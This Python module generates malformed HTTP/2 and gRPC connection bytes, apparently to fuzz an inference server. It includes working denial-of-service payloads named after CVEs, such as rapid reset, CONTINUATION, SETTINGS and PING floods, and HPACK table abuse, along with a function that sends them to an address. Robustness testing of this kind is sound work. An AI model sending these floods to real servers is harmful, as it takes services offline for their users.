"""HTTP/2 frames as no gRPC library would send them: kinds by name, each gives the bytes of one connection."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable, Iterator
from itertools import cycle, islice
from random import Random
from typing import Final

KINDS: dict[str, Callable[[Random], bytes]] = {}
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PUSH, _PING, _GOAWAY, _WINDOW, _CONTINUATION = range(10)
_END_STREAM, _END_HEADERS, _PADDED = 1, 4, 8
_INFER: Final = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame with its header."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """HPACK's number with a prefix of so many bits."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value > 127:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


def literal(name: str | bytes, value: str | bytes, *, indexed: bool = False) -> bytes:
    """HPACK: a header as plain text; ``indexed`` enters the table."""
    texts = [part.encode() if isinstance(part, str) else part for part in (name, value)]
    return (b"\x40" if indexed else b"\0") + b"".join(integer(len(part), 7) + part for part in texts)


def call_headers(method: str = _INFER, *more: tuple[str | bytes, str | bytes]) -> bytes:
    """The header block of a gRPC call."""
    pairs: list[tuple[str | bytes, str | bytes]] = [
        (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"), ("te", "trailers"),
        ("content-type", "application/grpc"), *more,
    ]  # fmt: skip
    return b"".join(literal(name, value) for name, value in pairs)


def start() -> bytes:
    """What a connection begins with."""
    return PREFACE + frame(_SETTINGS, 0, 0)


def open_call(stream: int, *more: tuple[str | bytes, str | bytes], flags: int = _END_HEADERS) -> bytes:
    """A call without its message."""
    return frame(_HEADERS, flags, stream, call_headers(_INFER, *more))


def message(data: bytes, flag: int = 0) -> bytes:
    """A gRPC message with its prefix."""
    return struct.pack(">BI", flag, len(data)) + data


def _kind(function: Callable[[Random], bytes]) -> Callable[[Random], bytes]:
    KINDS[function.__name__] = function
    return function


@_kind
def rapid_reset(random: Random) -> bytes:
    """Calls that are given up as soon as they are begun (CVE-2023-44487)."""
    calls = random.choice([100, 2000])
    resets = (open_call(2 * i + 1) + frame(_RESET, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(calls))
    return start() + b"".join(resets)


@_kind
def continuation_flood(random: Random) -> bytes:
    """A header block that never ends (CVE-2024-27316)."""
    more = literal("x-" + "a" * 100, "b" * 1000) * 10
    return start() + open_call(1, flags=0) + frame(_CONTINUATION, 0, 1, more) * random.choice([2, 500])


@_kind
def empty_continuations(random: Random) -> bytes:
    return start() + open_call(1, flags=0) + frame(_CONTINUATION, 0, 1) * random.choice([10, 50_000])


@_kind
def settings_flood(random: Random) -> bytes:
    """Settings that each want an answer (CVE-2019-9515)."""
    return start() + frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * random.choice([100, 20_000])


@_kind
def ping_flood(random: Random) -> bytes:
    """CVE-2019-9512."""
    return start() + frame(_PING, 0, 0, bytes(8)) * random.choice([10, 20_000])


@_kind
def empty_data_frames(random: Random) -> bytes:
    """CVE-2019-9518."""
    return start() + open_call(1) + frame(_DATA, 0, 1) * random.choice([100, 50_000])


@_kind
def priorities(random: Random) -> bytes:
    """Streams that depend on each other and on themselves (CVE-2019-9513)."""
    tree = (
        frame(_PRIORITY, 0, 2 * i + 1, struct.pack(">IB", random.choice([0, 1, 2 * i + 1]), 5)) for i in range(5000)
    )
    return start() + b"".join(tree)


@_kind
def metadata_flood(random: Random) -> bytes:
    """Headers by the thousand, long ones, binary ones that are no base64."""
    more: list[tuple[str | bytes, str | bytes]] = random.choice(
        [
            [("x", "y" * 20_000)], [(f"x{i}", "y") for i in range(400)], [("x-bin", "%%%")] * 20,
            [("grpc-timeout", "9" * 200 + "H")],
            [("grpc-timeout", "-1S")], [("grpc-timeout", "0n")], [("x", b"\xff\0\r\n")], [("X-Capital", "y")],
            [(":path", "/x")], [("", "")],
            [("grpc-encoding", "gzip")] * 3, [("content-length", "5")], [("transfer-encoding", "chunked")],
            [("connection", "close")], [("host", "y")],
        ]
    )  # fmt: skip
    return start() + open_call(1, *more) + frame(_DATA, _END_STREAM, 1, message(b""))


@_kind
def table_of_headers(random: Random) -> bytes:
    """HPACK: a large entry of the dynamic table named thousands of times; a table of 4 GiB; an index that is none."""
    block = random.choice(
        [
            literal("x", "y" * 4000, indexed=True) + b"\xbe" * 12_000,
            integer(2**32, 5, 0x20) + call_headers(),
            integer(2**60, 7, 0x80),
            b"\0" + integer(2**40, 7) + b"x",
            b"\x80",
            b"\0\x85" + b"\xff" * 5 + b"\1y",  # Huffman code of the end
        ]
    )
    return start() + frame(_HEADERS, _END_HEADERS, 1, block)


@_kind
def frames_out_of_place(random: Random) -> bytes:
    """Data before headers, on stream 0, even streams, streams backwards, pushes, settings with a remainder."""
    return start() + random.choice(
        [
            frame(_DATA, 0, 1, b"x"), frame(_DATA, 0, 0, b"x"), frame(_HEADERS, _END_HEADERS, 0, call_headers()),
            open_call(2), open_call(5) + open_call(3),
            frame(_PUSH, _END_HEADERS, 1, bytes(4)), frame(_SETTINGS, 0, 0, b"xyz"), frame(_SETTINGS, 1, 0, bytes(6)),
            frame(_SETTINGS, 0, 1), frame(_CONTINUATION, 4, 1),
            frame(_GOAWAY, 0, 0, bytes(8)) + open_call(1), frame(_GOAWAY, 0, 0, bytes(3)), frame(_PING, 0, 0, b"x"),
            frame(_PING, 0, 1, bytes(8)), frame(99, 255, 1, bytes(50)),
            frame(_RESET, 0, 1, bytes(4)), frame(_RESET, 0, 0, bytes(4)), frame(_WINDOW, 0, 0, bytes(4)),
            open_call(1) + frame(_DATA, 1, 1, b"") + frame(_DATA, 0, 1, b"x"),
            frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 2**32 - 1)), frame(_SETTINGS, 0, 0, struct.pack(">HI", 5, 1)),
            frame(_SETTINGS, 0, 0, struct.pack(">HI", 1, 2**32 - 1)),
        ]
    )  # fmt: skip


@_kind
def windows(random: Random) -> bytes:
    """Windows that overflow or never open: an answer that nobody reads."""
    return start() + random.choice(
        [
            frame(_WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * 3,
            frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + open_call(1) + frame(_DATA, 1, 1, message(b"")),
            open_call(1) + frame(_WINDOW, 0, 1, struct.pack(">I", 2**31 - 1)) * 2,
            frame(_WINDOW, 0, 0, struct.pack(">I", 1)) * 30_000,
        ]
    )


@_kind
def padding(random: Random) -> bytes:
    """Frames that are nearly all padding, or padded beyond their end."""
    body = frame(_DATA, _PADDED, 1, b"\xff" + bytes(255)) * random.choice([5, 2000])
    return (
        start()
        + open_call(1)
        + random.choice([body, frame(_DATA, _PADDED, 1, b"\xff"), frame(_HEADERS, 12, 3, b"\xff" + call_headers())])
    )


@_kind
def length_of_a_message_that_lies(random: Random) -> bytes:
    """A message of 4 GiB, one that is cut, two in one call, a flag that is none, compressed without saying how."""
    data = random.choice(
        [
            struct.pack(">BI", 0, 2**32 - 1) + b"x", struct.pack(">BI", 0, 37 << 20), message(b"x")[:-1] + b"",
            message(b"") * 2, message(b"x", 7),
            message(b"x", 1), b"\0", struct.pack(">BI", 0, 50) + b"x" * 20, message(b"\x0a\x06face3d") * 100,
        ]
    )  # fmt: skip
    return start() + open_call(1) + frame(_DATA, _END_STREAM, 1, data)


@_kind
def streams_beyond_the_limit(random: Random) -> bytes:
    """More calls at the same time than one connection may have, none with its message."""
    return start() + b"".join(open_call(2 * index + 1) for index in range(random.choice([130, 1000])))


@_kind
def half_closed(random: Random) -> bytes:
    """A call that ends without a message, trailers from the client, headers twice."""
    trailers = frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, literal("x", "y"))
    return start() + random.choice(
        [
            open_call(1, flags=_END_HEADERS | _END_STREAM),
            open_call(1) + trailers,
            open_call(1) + frame(_DATA, 0, 1, message(b"\x0a\x06detect")) + trailers,
            open_call(1) + open_call(1),
        ]
    )


@_kind
def no_http2_at_all(random: Random) -> bytes:
    return random.choice(
        [
            PREFACE[:10],
            b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
            PREFACE + random.randbytes(2000),
            random.randbytes(500),
            PREFACE + PREFACE,
            PREFACE + frame(_HEADERS, 4, 1, call_headers()),
            b"",
            PREFACE + b"\xff\xff\xff\0\0\0\0\0\0",
        ]
    )


@_kind
def noise_in_frames(random: Random) -> bytes:
    frames = (
        frame(
            random.randrange(12),
            random.randrange(256),
            random.choice([0, 1, 2, 3, 2**31 - 1]),
            random.randbytes(random.choice([0, 4, 8, 50])),
        )
        for _ in range(50)
    )
    return start() + b"".join(frames)


def odd_connections(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """The same ``count`` names of kinds and bytes for the same seed, every kind in turn."""
    random, names = Random(seed), list(KINDS)
    for name in islice(cycle(names), count):
        yield name, KINDS[name](random)


def converse(address: str, data: bytes, seconds: float = 2) -> bytes:
    """Send bytes and return what comes back until nothing does for half a second, or the other side closes."""
    host, port = address.split(":")
    answer, deadline = bytearray(), time.monotonic() + seconds
    with socket.create_connection((host, int(port)), timeout=seconds) as sock:
        try:
            sock.sendall(data)
            sock.settimeout(0.5)
            while time.monotonic() < deadline and (part := sock.recv(1 << 16)):
                answer += part
        except (TimeoutError, BrokenPipeError, ConnectionResetError):
            pass  # it waits, or has closed before all was read
    return bytes(answer)
